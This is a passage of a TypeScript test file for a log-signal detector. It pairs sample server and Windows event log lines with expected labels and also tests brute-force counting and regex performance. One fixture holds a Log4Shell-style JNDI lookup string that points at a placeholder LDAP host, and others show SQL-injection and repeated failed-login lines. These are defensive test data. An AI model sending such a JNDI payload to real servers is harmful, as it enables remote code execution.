        'suspicious_activity',
      ],
      [
        `203.0.113.77 - - [14/May/2024:04:11:02 +0000] "GET /?q=${DOLLAR}{jndi:ldap://203.0.113.77/a} HTTP/1.1" 200 512`,
        'suspicious_activity',
      ],
      [
        'ModSecurity: Access denied with code 403 (phase 2). [id "942100"] [msg "SQL Injection Attack Detected via libinjection"]',
        'suspicious_activity',
      ],
    ],
    benign: [
      'sshd[812]: Accepted publickey for deploy from 10.0.0.5 port 51234 ssh2: ED25519 SHA256:abc',
      'sshd[812]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)',
      'sshd[813]: Failed password for alice from 10.0.0.7 port 40112 ssh2',
      'sshd[814]: Received disconnect from 10.0.0.5 port 51234:11: disconnected by user',
      '_XSERVTransmkdir: Owner of /tmp/.X11-unix should be set to root',
      '+ curl -sSf -H "Authorization: Bearer [redacted]" https://api.example.com/health',
      '+ env | grep -c ^CI_',
    ],
  },
  'Windows Server event log (BugCheck, Kernel-Power, Service Control Manager, WER, IIS WAS)': {
    real: [
      [
        'The computer has rebooted from a bugcheck.  The bugcheck was: 0x00000050 (0xffff9c8e0000008c, 0x0000000000000000, 0xfffff80263a4e5a1, 0x0000000000000002).',
        'process_crashed',
      ],
      [
        'Kernel-Power 41: The system has rebooted without cleanly shutting down first. This error could be caused if the system stopped responding, crashed, or lost power unexpectedly.',
        'process_crashed',
      ],
      [
        'EventLog 6008: The previous system shutdown at 3:14:07 AM on 7/19/2024 was unexpected.',
        'process_crashed',
      ],
      ['Stop code: PAGE_FAULT_IN_NONPAGED_AREA  What failed: csagent.sys', 'process_crashed'],
      [
        'Service Control Manager 7031: The World Wide Web Publishing Service service terminated unexpectedly.  It has done this 1 time(s).',
        'process_crashed',
      ],
      [
        'Application Error 1000: Faulting application name: w3wp.exe, version: 10.0.17763.1',
        'process_crashed',
      ],
      [
        "WAS 5002: Application pool 'OrdersPool' is being automatically disabled due to a series of failures in the process(es) serving that application pool.",
        'crash_loop',
      ],
    ],
    benign: [
      'EventLog 6005: The Event log service was started.',
      'Kernel-General 12: The operating system started at system time 2024-07-19T04:10:02.500000000Z.',
      'Service Control Manager 7036: The Windows Update service entered the running state.',
      'EventLog 6006: The Event log service was stopped.',
      'User32 1074: The process C:\\Windows\\system32\\svchost.exe has initiated the restart of computer WIN-APP-014 on behalf of user NT AUTHORITY\\SYSTEM for the following reason: Operating System: Service pack (Planned)',
    ],
  },
};

describe('vocabulary families', () => {
  it('every family has real-world and benign lines here', () => {
    expect(Object.keys(FAMILIES).sort()).toEqual(VOCABULARIES.map((v) => v.family).sort());
  });

  for (const [family, { real, benign }] of Object.entries(FAMILIES)) {
    describe(family, () => {
      it.each(real)('recognises %s as %s', (line, signal) => {
        expect(ids([line])).toContain(signal);
      });
      it.each(benign)('raises nothing on an ordinary line: %s', (line) => {
        expect(ids([line])).toEqual([]);
      });
    });
  }
});

describe('brute force is counted, not read from one line', () => {
  const failed = (n: number) =>
    Array.from(
      { length: n },
      (_, i) =>
        `sshd[${900 + i}]: Failed password for user${i} from 45.155.205.3 port ${5000 + i} ssh2`,
    );

  it('a few failed logins of real users are typos', () => {
    expect(ids(failed(3))).toEqual([]);
  });

  it('four or more are an attack', () => {
    expect(ids(failed(4))).toContain('suspicious_activity');
  });
});

describe('the patterns themselves', () => {
  const all = VOCABULARIES.flatMap((v) => v.terms.map((t) => ({ family: v.family, t })));

  it('carry no global or sticky flag (test() must not keep state between lines)', () => {
    for (const { family, t } of all)
      expect(t.pattern.flags, `${family}: ${t.pattern}`).not.toMatch(/[gy]/);
  });

  it('stay fast on long, repetitive lines (no catastrophic backtracking)', () => {
    const nasty = [
      'a'.repeat(500),
      ' '.repeat(500),
      `${'cpu '.repeat(120)}x`,
      `${'connection to '.repeat(35)}`,
      `${'-'.repeat(250)}${'.'.repeat(250)}`,
      `ALARM ${'x '.repeat(240)}`,
      `GET ${'/a'.repeat(240)} 200`,
      `${'1'.repeat(499)}s`,
    ];
    const started = performance.now();
    for (const line of nasty) ids([line]);
    expect(performance.now() - started).toBeLessThan(200);
  });
});
